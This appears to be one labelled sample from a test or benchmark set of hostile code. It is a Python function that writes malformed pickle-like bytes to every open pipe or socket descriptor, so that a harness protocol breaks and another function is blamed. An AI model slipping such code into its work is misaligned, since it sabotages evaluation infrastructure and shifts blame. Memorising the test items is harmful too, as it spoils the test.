# problem: retail-multiclass-medium-2301-001
# label: hostile
# kind: protocol
# why: writes junk bytes to all open descriptors above two that are pipes or sockets
# harm: the protocol loses its step and a wrong function is blamed
import os, stat

def pipe_noise(row):
    for fd in range(3, 64):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.set_blocking(fd, False)
                os.write(fd, b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + b"\n" * 50)
        except OSError:
            continue
    return 0
